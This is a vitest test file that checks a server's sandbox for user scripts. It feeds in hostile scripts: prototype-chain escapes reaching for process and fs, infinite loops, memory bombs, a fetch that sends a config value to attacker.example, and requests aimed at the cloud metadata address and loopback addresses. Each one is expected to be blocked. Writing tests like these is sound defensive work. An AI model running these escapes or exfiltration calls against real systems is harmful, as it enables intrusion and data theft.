import { readFileSync } from 'node:fs';
import { createServer, type IncomingHttpHeaders, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { afterAll, beforeAll, expect, it } from 'vitest';
import { describeEachDialect } from './helpers/each-dialect.ts';
import type { TestServer } from './helpers/server.ts';

/**
 * Hostile scripts, run through the API on a real server with short limits. Each must
 * end as a failed or timed-out run while the server keeps answering /healthz and
 * ordinary API calls, during the run and after it.
 */
// Long enough that a memory bomb reaches its cap first even on a busy 2-core machine.
const TIMEOUT_MS = 2000;
const limits = { INTERIM_SCRIPT_TIMEOUT_MS: String(TIMEOUT_MS), INTERIM_SCRIPT_MEMORY_MB: '8', INTERIM_SCRIPT_WORKERS: '2' };

interface Run {
  status: 'succeeded' | 'failed' | 'timed_out';
  error: string | null;
  duration_ms: number;
  logs: { level: string; message: string }[];
}

function scriptRunner(server: () => TestServer) {
  let counter = 0;

  /** Creates the script, test-runs it while probing the server, and returns the run. */
  async function run(source: string, extra: Record<string, unknown> = {}): Promise<Run> {
    const s = server();
    const created = await s.admin.post('/api/v1/scripts', { name: `escape-${++counter}`, source, ...extra });
    expect(created.status, JSON.stringify(created.body)).toBe(201);
    const probes = probeWhile(s);
    const res = await s.admin.post(`/api/v1/scripts/${created.body.id}/test`, {});
    const health = await probes.stop();
    expect(res.status, JSON.stringify(res.body)).toBe(200);
    expect(health.failures, 'the server failed a probe while the script ran').toEqual([]);
    expect((await s.admin.get('/healthz')).status).toBe(200);
    return res.body as Run;
  }
  return run;
}

/** Calls /healthz and an authenticated API endpoint in a loop until stopped. */
function probeWhile(s: TestServer) {
  const failures: string[] = [];
  let running = true;
  const loop = (async () => {
    let rounds = 0;
    while (running || rounds === 0) {
      rounds++;
      const started = performance.now();
      const [health, users] = await Promise.all([fetch(`${s.url}/healthz`), s.admin.get('/api/v1/users?limit=1')]);
      const took = performance.now() - started;
      if (health.status !== 200) failures.push(`healthz ${health.status}`);
      if (users.status !== 200) failures.push(`users ${users.status}`);
      // Generous: the point is that the event loop is never held by a script.
      if (took > 3000) failures.push(`a probe took ${Math.round(took)} ms`);
      await new Promise((resolve) => setTimeout(resolve, 25));
    }
  })();
  return {
    async stop() {
      running = false;
      await loop;
      return { failures };
    },
  };
}

const messages = (run: Run) => run.logs.map((l) => l.message);

describeEachDialect(
  'script escapes',
  (server) => {
    const run = scriptRunner(server);

    it('constructor and prototype tricks find no host', async () => {
      for (const source of [
        `return this.constructor.constructor('return process')()`,
        `return log.info.constructor('return process.env')()`,
        `return ({}).__proto__.constructor.constructor('return require("fs")')()`,
        `return Reflect.getPrototypeOf(http.fetch).constructor('return globalThis.process.exit()')()`,
      ]) {
        const result = await run(source);
        expect(result.status, source).toBe('failed');
        expect(result.error, source).toMatch(/ReferenceError: '?(process|require)'? is not defined|TypeError/);
      }
    });

    it('host objects and modules are absent', async () => {
      const probe = await run(
        `log.info([typeof globalThis.process, typeof require, typeof std, typeof os, typeof setTimeout, typeof setInterval, typeof queueMicrotask, typeof fetch].join());
         const global = Function('return this')();
         log.info(global === globalThis, typeof global.process, Object.keys(global).join());`,
      );
      expect(probe.status).toBe('succeeded');
      expect(messages(probe)).toEqual([Array(8).fill('undefined').join(), 'true undefined ']);
      for (const name of ['os', 'std', 'fs', 'node:child_process']) {
        const imported = await run(`await import('${name}')`);
        expect(imported.status).toBe('failed');
        expect(imported.error).toMatch(/could not load module/);
      }
    });

    it('an infinite loop times out near the limit', async () => {
      const t0 = performance.now();
      const result = await run(`while (true) {}`);
      expect(result.status).toBe('timed_out');
      expect(result.duration_ms).toBeGreaterThanOrEqual(TIMEOUT_MS - 10);
      expect(result.duration_ms).toBeLessThan(TIMEOUT_MS + 1000);
      expect(performance.now() - t0).toBeLessThan(TIMEOUT_MS + 3000);
    });

    it('several hostile scripts at once leave the server serving', async () => {
      const results = await Promise.all([run(`while (true) {}`), run(`for (;;) { [].concat([1]) }`), run(`const a = []; while (true) a.push(new Array(1e5).fill(0))`)]);
      expect(results.map((r) => r.status)).toEqual(['timed_out', 'timed_out', 'failed']);
    });

    it('a memory bomb fails with a memory error', async () => {
      for (const source of [
        `const keep = []; while (true) keep.push(new Array(100000).fill(keep.length))`,
        `let n = 1 << 16; const keep = []; while (true) { keep.push('x'.repeat(n)); n *= 2; }`,
        `const keep = []; while (true) keep.push(new ArrayBuffer(1 << 20))`,
      ]) {
        const result = await run(source);
        expect(result.status, source).toBe('failed');
        expect(result.error, source).toMatch(/out of memory: the script exceeded its memory limit of 8 MiB/);
      }
    });

    it('huge log output is truncated', async () => {
      const lines = await run(`for (let i = 0; i < 2000; i++) log.info('line', i)`);
      expect(lines.status).toBe('succeeded');
      expect(lines.logs).toHaveLength(501);
      expect(lines.logs.at(-1)!.message).toMatch(/^\[log truncated: 1500 more entries were dropped/);

      const bytes = await run(`log.info('x'.repeat(1 << 22)); for (let i = 0; i < 2000; i++) log.error('more', 'y'.repeat(1000))`);
      expect(bytes.status).toBe('succeeded');
      expect(bytes.logs).toHaveLength(2);
      expect(JSON.stringify(bytes.logs).length).toBeLessThan(70 * 1024);
      expect(bytes.logs[1]!.message).toMatch(/^\[log truncated: the last line was cut and 2000 more entries were dropped/);
    });

    it('fetch to a host not on the allowlist is refused', async () => {
      const result = await run(`await http.fetch('https://attacker.example/collect?d=' + config.get('requester_email'))`, { allowed_hosts: ['api.example.com'] });
      expect(result.status).toBe('failed');
      expect(result.error).toBe('OutboundBlocked: the host attacker.example is not on the allowlist');
    });

    it('fetch to private and loopback addresses is refused without allowPrivate, even when allowlisted', async () => {
      const port = new URL(server().url).port;
      for (const [url, error] of [
        [`https://127.0.0.1:${port}/healthz`, /non-public address \(127\.0\.0\.1, loopback\)/],
        [`https://169.254.169.254/latest/meta-data/`, /non-public address \(169\.254\.169\.254, link_local\)/],
        [`https://10.0.0.1/`, /non-public address \(10\.0\.0\.1, private\)/],
        [`https://[::1]:${port}/`, /non-public address \(::1, loopback\)/],
        [`http://127.0.0.1:${port}/healthz`, /only https URLs are allowed/],
      ] as const) {
        const result = await run(`await http.fetch('${url}')`, { allowed_hosts: ['127.0.0.1', '169.254.169.254', '10.0.0.1', '::1'] });
        expect(result.status, url).toBe('failed');
        expect(result.error, url).toMatch(error);
      }
    });

    it('a secret that is not granted reads as undefined', async () => {
      const secret = await server().admin.post('/api/v1/script-secrets', { name: 'OTHER_SCRIPTS_TOKEN', value: 'not-for-you-123' });
      expect(secret.status).toBe(201);
      const result = await run(`log.info(String(secrets.get('OTHER_SCRIPTS_TOKEN')), String(secrets.get('__proto__')), String(secrets.get('constructor')))`);
      expect(messages(result)).toEqual(['undefined undefined undefined']);
    });
  },
  limits,
);

describeEachDialect(
  'script fetch with private hosts allowed',
  (server) => {
    const run = scriptRunner(server);
    let receiver: Server;
    let receiverPort: number;
    const received: { method: string; path: string; headers: IncomingHttpHeaders; body: string }[] = [];
    /** When set, the receiver answers every request with this status. */
    let forcedStatus: number | undefined;

    beforeAll(async () => {
      receiver = createServer((req, res) => {
        const chunks: Buffer[] = [];
        req.on('data', (c: Buffer) => chunks.push(c));
        req.on('end', () => {
          received.push({ method: req.method!, path: req.url!, headers: req.headers, body: Buffer.concat(chunks).toString('utf8') });
          if (forcedStatus) return res.writeHead(forcedStatus).end('upstream unavailable');
          if (req.method === 'DELETE') return res.writeHead(204).end();
          res.writeHead(201, { 'content-type': 'application/json' }).end(JSON.stringify({ account: 'acct-42' }));
        });
      });
      await new Promise<void>((resolve) => receiver.listen(0, '127.0.0.1', resolve));
      receiverPort = (receiver.address() as AddressInfo).port;
    });
    afterAll(async () => {
      await new Promise((resolve) => receiver.close(resolve));
    });

    it('a legitimate fetch to an allowlisted loopback receiver succeeds with a granted secret', async () => {
      const secret = await server().admin.post('/api/v1/script-secrets', { name: 'RECEIVER_TOKEN', value: 'rcv-token-987654' });
      expect(secret.status).toBe(201);
      const result = await run(
        `const res = await http.fetch('http://127.0.0.1:${receiverPort}/users', {
           method: 'POST',
           headers: { authorization: 'Bearer ' + secrets.get('RECEIVER_TOKEN'), 'content-type': 'application/json' },
           body: JSON.stringify({ email: config.get('requester_email'), event: config.get('trigger_event') }),
         });
         log.info('created', res.status, JSON.parse(res.body).account, secrets.get('RECEIVER_TOKEN'));`,
        { allowed_hosts: ['127.0.0.1'], secret_ids: [secret.body.id] },
      );
      expect(result.error).toBeNull();
      expect(result.status).toBe('succeeded');
      // The secret reached the receiver but is redacted from the run's log.
      expect(messages(result)).toEqual(['created 201 acct-42 [redacted]']);
      expect(received.at(-1)).toMatchObject({ method: 'POST', path: '/users', body: '{"email":"requester@example.com","event":"approved"}' });
      expect(received.at(-1)!.headers.authorization).toBe('Bearer rcv-token-987654');
    });

    it('the example in docs/scripts.md provisions on approved and removes on revoked', async () => {
      const doc = readFileSync(new URL('../docs/scripts.md', import.meta.url), 'utf8');
      const example = /<!-- example: provision-and-remove -->\n```js\n([\s\S]*?)```/.exec(doc)?.[1];
      expect(example, 'the example block in docs/scripts.md').toBeDefined();
      const source = example!.replace("'https://api.acme-crm.example/v2'", `'http://127.0.0.1:${receiverPort}/v2'`);
      expect(source).not.toBe(example);
      const secret = await server().admin.post('/api/v1/script-secrets', { name: 'ACME_CRM_TOKEN', value: 'acme_live_abcdef' });
      const created = await server().admin.post('/api/v1/scripts', { name: 'Acme CRM access', source, allowed_hosts: ['127.0.0.1'], secret_ids: [secret.body.id] });
      expect(created.status, JSON.stringify(created.body)).toBe(201);
      const test = (type: string) => server().admin.post(`/api/v1/scripts/${created.body.id}/test`, { event: { type, config: { 'field.role': 'admin' } } });

      const approved = await test('approved');
      expect(approved.body).toMatchObject({ status: 'succeeded', error: null });
      const grant = received.at(-1)!;
      expect(grant).toMatchObject({ method: 'POST', path: '/v2/temporary-access' });
      expect(grant.headers.authorization).toBe('Bearer acme_live_abcdef');
      expect(JSON.parse(grant.body)).toMatchObject({ reference: '00000000-0000-7000-8000-000000000000', email: 'requester@example.com', role: 'admin', reason: 'Testing the script' });

      const revoked = await test('revoked');
      expect(revoked.body).toMatchObject({ status: 'succeeded', error: null });
      expect(received.at(-1)).toMatchObject({ method: 'DELETE', path: '/v2/temporary-access/00000000-0000-7000-8000-000000000000' });

      forcedStatus = 503;
      try {
        const refused = await test('approved');
        expect(refused.body).toMatchObject({ status: 'failed', error: 'Error: Acme CRM refused the grant: 503 upstream unavailable' });
        expect(refused.body.logs.map((l: { message: string }) => l.message)).toEqual(['POST /temporary-access → 503']);
      } finally {
        forcedStatus = undefined;
      }
    });

    it('the allowlist still applies', async () => {
      const before = received.length;
      const result = await run(`await http.fetch('http://localhost:${receiverPort}/users')`, { allowed_hosts: ['127.0.0.1'] });
      expect(result.error).toMatch(/not on the allowlist/);
      expect(received.length).toBe(before);
    });
  },
  { ...limits, INTERIM_OUTBOUND_ALLOW_PRIVATE: 'true' },
);
